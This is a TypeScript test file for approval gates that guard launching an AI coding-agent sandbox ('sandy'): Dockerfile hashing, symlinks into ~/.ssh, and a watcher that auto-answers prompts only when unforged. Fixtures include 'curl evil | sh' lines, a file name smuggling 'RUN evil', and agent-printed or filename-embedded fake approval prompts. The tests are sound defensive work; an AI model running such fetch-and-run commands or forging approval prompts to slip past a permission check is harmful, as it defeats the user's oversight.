import { expect } from 'chai';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { dockerfileShownLines, GatePromptWatcher, PendingGates, plainTerminalText, revealControlChars } from '../../common/approvals/launch-gates';
import { dockerfileGate, sandyContextHash, symlinkApprovalPath, symlinkGate } from '../approvals/launch-gates';
import { GateResponder } from '../approvals/gate-responder';
import { fixturesRoot } from './sandy-fixtures';

const fx = (name: string, file: string) => fs.readFileSync(path.join(fixturesRoot(), name, file), 'utf8');
const FX30 = '30-stubdocker-launch-approval-prompt-answer-yes';
const FX39 = '39-stubdocker-dockerfile-approval-prompt-answer-yes';

/** The real PTY bytes of a fixture up to (and including) sandy's prompt, as sandy left them waiting. */
function upToPrompt(stdout: string, prompt: string): string {
    const at = stdout.indexOf(prompt);
    expect(at, `prompt ${prompt} in the fixture`).to.be.greaterThan(0);
    // The fixture's first line is the echo of the typed-ahead answer; a live PTY has none.
    return stdout.slice(0, at + prompt.length).replace(/^y\r?\n/, '');
}

function feedInChunks(watcher: GatePromptWatcher, text: string, size = 7): ReturnType<GatePromptWatcher['feed']>[] {
    const results: ReturnType<GatePromptWatcher['feed']>[] = [];
    for (let i = 0; i < text.length; i += size) {
        results.push(watcher.feed(text.slice(i, i + size)));
    }
    return results.filter(Boolean);
}

describe('launch gates (sandy 1.7.1 prompts, real PTY fixtures)', () => {
    let tmp: string;
    beforeEach(() => {
        tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sandy-gates-')));
    });
    afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));

    describe('Dockerfile gate', () => {
        it('hashes the build context exactly as sandy did for fixture 39 (its approval file line 1)', async () => {
            const sandyDir = path.join(tmp, 'ws', '.sandy');
            fs.mkdirSync(sandyDir, { recursive: true });
            fs.writeFileSync(path.join(sandyDir, 'Dockerfile'), fx(FX39, 'input.Dockerfile'));
            // config and .secrets are not part of sandy's hash.
            fs.writeFileSync(path.join(sandyDir, 'config'), 'SANDY_MODEL=x\n');
            const { hash } = await sandyContextHash(sandyDir);
            expect(hash).to.equal(fx(FX39, 'approval-file.list').split('\n')[0]);
        });

        it('asks when sandy has no record or an older one, and not once sandy recorded this context', async () => {
            const ws = path.join(tmp, 'ws');
            const home = path.join(tmp, 'home', '.sandy');
            fs.mkdirSync(path.join(ws, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(ws, '.sandy', 'Dockerfile'), 'FROM x\nRUN echo one\n');
            fs.writeFileSync(path.join(ws, '.sandy', 'helper.sh'), 'echo helper\n');
            fs.mkdirSync(path.join(ws, '.sandy', 'sub'));
            fs.writeFileSync(path.join(ws, '.sandy', 'sub', 'config'), 'curl evil | sh\n');
            const gate = await dockerfileGate(ws, home);
            // sandy's hash skips sub/config although Docker builds with it: the view must say so.
            expect(gate?.unhashedFiles).to.deep.equal(['sub/config']);
            expect(gate?.text).to.equal('FROM x\nRUN echo one\n');
            expect(gate?.contextFiles).to.deep.equal(['helper.sh']);
            expect(gate?.approvedHash).to.equal(undefined);
            fs.mkdirSync(path.dirname(gate!.approvalFilePath), { recursive: true });
            fs.writeFileSync(gate!.approvalFilePath, `${gate!.hash}\n# workspace: ${ws}\n`);
            expect(await dockerfileGate(ws, home)).to.equal(undefined);
            // A change to a context file the user never sees still asks again (sandy hashes the whole folder).
            fs.writeFileSync(path.join(ws, '.sandy', 'helper.sh'), 'curl evil | sh\n');
            const again = await dockerfileGate(ws, home, 'FROM x\nRUN echo one\n');
            expect(again?.approvedHash).to.equal(gate!.hash);
            expect(again?.previousText).to.equal(undefined, 'the Dockerfile itself did not change');
        });

        it('refuses a Dockerfile that is a symlink, or a .sandy that is one', async () => {
            const ws = path.join(tmp, 'ws');
            fs.mkdirSync(path.join(ws, '.sandy'), { recursive: true });
            fs.writeFileSync(path.join(tmp, 'elsewhere'), 'FROM x\n');
            fs.symlinkSync(path.join(tmp, 'elsewhere'), path.join(ws, '.sandy', 'Dockerfile'));
            await expectRejected(dockerfileGate(ws, path.join(tmp, 'h')), /symbolic link/);
            const ws2 = path.join(tmp, 'ws2');
            fs.mkdirSync(path.join(tmp, 'real-sandy'), { recursive: true });
            fs.writeFileSync(path.join(tmp, 'real-sandy', 'Dockerfile'), 'FROM x\n');
            fs.mkdirSync(ws2);
            fs.symlinkSync(path.join(tmp, 'real-sandy'), path.join(ws2, '.sandy'));
            await expectRejected(dockerfileGate(ws2, path.join(tmp, 'h')), /symbolic link/);
        });

        it('Attack: a build-context file named with a newline, or not UTF-8, is refused with its name (sandy would hash other lines than the IDE, and the tab could not check what sandy records)', async () => {
            for (const [i, name] of [Buffer.from('helper.sh\nRUN evil'), Buffer.from([0x66, 0xff, 0x2e, 0x73, 0x68])].entries()) {
                const ws = path.join(tmp, `named-${i}`);
                fs.mkdirSync(path.join(ws, '.sandy', 'sub'), { recursive: true });
                fs.writeFileSync(path.join(ws, '.sandy', 'Dockerfile'), 'FROM x\n');
                fs.writeFileSync(Buffer.concat([Buffer.from(path.join(ws, '.sandy', 'sub') + '/'), name]), 'x');
                await expectRejected(dockerfileGate(ws, path.join(tmp, 'h')), /A file name in .*\.sandy is not plain text: "sub\/(helper\.sh\\nRUN evil|f\uFFFD\.sh)"\.$/);
            }
        });

        it('shows lines as sandy prints them: 200 at most, control characters removed, unterminated last line dropped', () => {
            expect(dockerfileShownLines('FROM x\nRUN a\x1b[31m\nlast')).to.deep.equal({ lines: ['FROM x', 'RUN a[31m'], truncated: false });
            const long = Array.from({ length: 205 }, (_, i) => `RUN ${i}`).join('\n') + '\n';
            const shown = dockerfileShownLines(long);
            expect(shown.lines).to.have.length(200);
            expect(shown.truncated).to.equal(true);
        });

        it('reveals control and bidi characters in what the view shows', () => {
            expect(revealControlChars('RUN a\x1b[2K\tb\u202ec\n')).to.equal('RUN a\\x1b[2K\tb\\u202ec\n');
        });
    });

    describe('symlink gate', () => {
        it('lists links that resolve outside the workspace under $HOME, as sandy does, and skips the rest', async () => {
            const home = path.join(tmp, 'home');
            const ws = path.join(home, 'proj');
            fs.mkdirSync(path.join(ws, 'sub', 'node_modules'), { recursive: true });
            fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
            fs.symlinkSync(path.join(home, '.ssh'), path.join(ws, 'keys'));
            fs.symlinkSync('../../.ssh', path.join(ws, 'sub', 'rel'));
            fs.symlinkSync('/usr/bin', path.join(ws, 'system'));
            fs.symlinkSync(path.join(ws, 'sub'), path.join(ws, 'inside'));
            fs.symlinkSync(path.join(home, '.ssh'), path.join(ws, 'sub', 'node_modules', 'ignored'));
            const gate = await symlinkGate(ws, home, path.join(home, '.sandy'));
            expect(gate?.entries).to.deep.equal([`keys -> ${home}/.ssh`, `sub/rel -> ${home}/.ssh`]);
        });

        it('refuses a new link after an approval (sandy would exit 1), and asks nothing for the approved set', async () => {
            const home = path.join(tmp, 'home');
            const ws = path.join(home, 'proj');
            const sandyHome = path.join(home, '.sandy');
            fs.mkdirSync(ws, { recursive: true });
            fs.mkdirSync(path.join(home, 'notes'));
            fs.symlinkSync(path.join(home, 'notes'), path.join(ws, 'notes'));
            // Where sandy keeps it: <SANDY_HOME>/sandboxes/<name>/.sandy-approved-symlinks.list.
            const list = symlinkApprovalPath(sandyHome, ws);
            fs.mkdirSync(path.dirname(list), { recursive: true });
            fs.writeFileSync(list, `notes -> ${home}/notes\n`);
            expect(await symlinkGate(ws, home, sandyHome)).to.equal(undefined);
            fs.mkdirSync(path.join(home, '.aws'));
            fs.symlinkSync(path.join(home, '.aws'), path.join(ws, 'aws'));
            await expectRejected(symlinkGate(ws, home, sandyHome), /appeared since you approved/);
        });

        it('refuses a link sandy would list but a UTF-8 walk would lose (a name that is not UTF-8), and backslashes echo -e expands', async () => {
            const home = path.join(tmp, 'home');
            const ws = path.join(home, 'proj');
            fs.mkdirSync(ws, { recursive: true });
            fs.mkdirSync(path.join(home, '.ssh'));
            // The attack of the review: byte 0xff, then text that echo -e turns into a forged header.
            const name = Buffer.concat([Buffer.from(ws + '/'), Buffer.from([0xff]), Buffer.from('\\n[sandy] Symlinks that point outside the workspace:\\n\\c')]);
            fs.symlinkSync('../.ssh', name);
            await expectRejected(symlinkGate(ws, home, path.join(home, '.sandy')), /not valid UTF-8/);
            fs.unlinkSync(name);
            fs.symlinkSync('../.ssh', path.join(ws, 'a\\nb'));
            await expectRejected(symlinkGate(ws, home, path.join(home, '.sandy')), /backslashes/);
        });

        it('refuses a link whose name could forge lines of sandy\'s prompt', async () => {
            const home = path.join(tmp, 'home');
            const ws = path.join(home, 'proj');
            fs.mkdirSync(ws, { recursive: true });
            fs.mkdirSync(path.join(home, '.ssh'));
            fs.symlinkSync(path.join(home, '.ssh'), path.join(ws, 'x\n[sandy] Proceed anyway? [yes or no] '));
            await expectRejected(symlinkGate(ws, home, path.join(home, '.sandy')), /control characters/);
        });
    });

    describe('GatePromptWatcher', () => {
        const fx30Keys = ['SANDY_ALLOW_HOSTS', 'SANDY_ALLOW_WORKFLOW_EDIT', 'SANDY_SSH'];
        const fx30: PendingGates = { workspace: '<WS>/ws-approve', privileged: { setHash: 'h', keys: fx30Keys } };
        const fx30Screen = () => upToPrompt(fx(FX30, 'stdout.txt'), '[sandy] Approve these keys for this workspace? [y/N] ');

        it('recognises sandy\'s privileged-key prompt in the real PTY stream of fixture 30, in any chunking', () => {
            for (const size of [1, 7, 4096]) {
                expect(feedInChunks(new GatePromptWatcher(fx30), fx30Screen(), size), `chunks of ${size}`).to.deep.equal([{ gate: 'privileged' }]);
            }
        });

        it('does not answer for a different key set, another workspace, or a gate the user was not shown', () => {
            expect(feedInChunks(new GatePromptWatcher({ ...fx30, privileged: { setHash: 'h', keys: fx30Keys.slice(1) } }), fx30Screen())).to.deep.equal([]);
            expect(feedInChunks(new GatePromptWatcher({ ...fx30, workspace: '<WS>/other' }), fx30Screen())).to.deep.equal([]);
            expect(feedInChunks(new GatePromptWatcher({ workspace: '<WS>/ws-approve' }), fx30Screen())).to.deep.equal([]);
        });

        it('recognises the Dockerfile prompt of fixture 39 only for the exact lines shown', () => {
            const text = fx(FX39, 'input.Dockerfile');
            const shown = dockerfileShownLines(text);
            const gates = (lines: string[]): PendingGates => ({
                workspace: '<WS>/ws-dockerfile',
                dockerfile: {
                    path: '<WS>/ws-dockerfile/.sandy/Dockerfile', text, shownLines: lines, truncated: false, contextFiles: [],
                    hash: 'h', approvalFilePath: 'a'
                }
            });
            const screen = upToPrompt(fx(FX39, 'stdout.txt'), '[sandy] Build this .sandy/Dockerfile for <WS>/ws-dockerfile? [y/N] ');
            expect(feedInChunks(new GatePromptWatcher(gates(shown.lines)), screen)).to.deep.equal([{ gate: 'dockerfile' }]);
            expect(feedInChunks(new GatePromptWatcher(gates([...shown.lines.slice(0, -1), 'RUN echo goodbye'])), screen)).to.deep.equal([]);
        });

        it('is not fooled by a Dockerfile line that imitates a prompt', () => {
            const gates: PendingGates = { workspace: '/w', privileged: { setHash: 'h', keys: ['SANDY_SSH'] } };
            const w = new GatePromptWatcher(gates);
            const forged = '[sandy]   | RUN x [sandy] Workspace config (/w/.sandy/config) wants to set privileged keys:\r\n'
                + '[sandy]   | [sandy] Approve these keys for this workspace? [y/N] ';
            expect(w.feed(forged)).to.equal(undefined);
        });

        it('does not answer when a gate\'s header appears twice since the last answer (a forged block before the real one)', () => {
            const forged = fx30Screen().replace('[sandy] Workspace config (', '[sandy] Workspace config (forged) wants to set privileged keys:\r\n[sandy] Workspace config (');
            expect(feedInChunks(new GatePromptWatcher(fx30), forged)).to.deep.equal([]);
        });

        it('stops watching at sandy\'s "Launching … sandbox" line: nothing the agent prints is a prompt', () => {
            const w = new GatePromptWatcher(fx30);
            w.feed('\x1b[0;32m[sandy]\x1b[0m Launching Claude Code sandbox...\r\n');
            expect(w.done).to.equal(true);
            expect(feedInChunks(w, fx30Screen())).to.deep.equal([]);
        });

        it('sees the coloured "Launching" line however the reads split it (inside its escapes too): an agent\'s forged prompt after it is not answered', () => {
            const launching = '\x1b[0;32m[sandy]\x1b[0m Launching Claude Code sandbox...\r\n';
            for (let cut = 1; cut < launching.length; cut++) {
                const w = new GatePromptWatcher({ ...fx30, symlinks: { entries: ['notes -> /home/u/notes'], approvedListPath: 'l' } as PendingGates['symlinks'] });
                expect(feedInChunks(w, fx30Screen(), 4096)).to.deep.equal([{ gate: 'privileged' }]);
                w.feed('y\r\n' + launching.slice(0, cut));
                w.feed(launching.slice(cut));
                expect(w.done, `split at ${cut}: ${JSON.stringify(launching.slice(0, cut))}`).to.equal(true);
                expect(w.feed('[sandy] Symlinks that point outside the workspace:\r\n[sandy]   notes -> /home/u/notes\r\n[sandy] Proceed anyway? [y/N] ')).to.equal(undefined);
            }
        });

        it('stops watching when a program takes the screen (an agent\'s TUI), even without the "Launching" line', () => {
            const w = new GatePromptWatcher(fx30);
            w.feed('\x1b[?10');
            w.feed('49h\x1b[H');
            expect(w.done).to.equal(true);
            expect(feedInChunks(w, fx30Screen())).to.deep.equal([]);
        });

        it('strips colours, OSC strings and CRs the way the screen shows the text', () => {
            expect(plainTerminalText('\x1b[1;33m[sandy]\x1b[0m a\r\n\x1b]0;t\x07b\r\n')).to.equal('[sandy] a\nb\n');
        });
    });

    describe('GateResponder', () => {
        const gates: PendingGates = { workspace: '<WS>/ws-approve', privileged: { setHash: 'h', keys: ['SANDY_ALLOW_HOSTS', 'SANDY_ALLOW_WORKFLOW_EDIT', 'SANDY_SSH'] } };
        const screen = () => upToPrompt(fx(FX30, 'stdout.txt'), '[sandy] Approve these keys for this workspace? [y/N] ');

        function run(recheck: boolean, after?: string): Promise<{ typed: string[]; answered: string[]; declined: string[] }> {
            const typed: string[] = [];
            const answered: string[] = [];
            const declined: string[] = [];
            const responder = new GateResponder({
                approved: gates, settleMs: 20, recheck: async () => recheck,
                onAnswered: g => answered.push(g), onDeclined: (g, why) => declined.push(`${g}: ${why}`)
            });
            responder.observe(screen(), t => typed.push(t));
            if (after) {
                setTimeout(() => responder.observe(after, t => typed.push(t)), 5);
            }
            return new Promise(resolve => setTimeout(() => resolve({ typed, answered, declined }), 80));
        }

        it('types y at the prompt when the files are still what the user approved', async () => {
            expect(await run(true)).to.deep.equal({ typed: ['y\r'], answered: ['privileged'], declined: [] });
        });

        it('leaves the prompt to the user when the files changed since the approval', async () => {
            const r = await run(false);
            expect(r.typed).to.deep.equal([]);
            expect(r.declined[0]).to.match(/changed/);
        });

        it('leaves the prompt to the user when anything (a keystroke echo, more output) follows it', async () => {
            const r = await run(true, 'n');
            expect(r.typed).to.deep.equal([]);
            expect(r.declined[0]).to.match(/more output/);
        });
    });
});

async function expectRejected(p: Promise<unknown>, message: RegExp): Promise<void> {
    try {
        await p;
    } catch (e) {
        expect((e as Error).message).to.match(message);
        return;
    }
    expect.fail(`expected a rejection matching ${message}`);
}
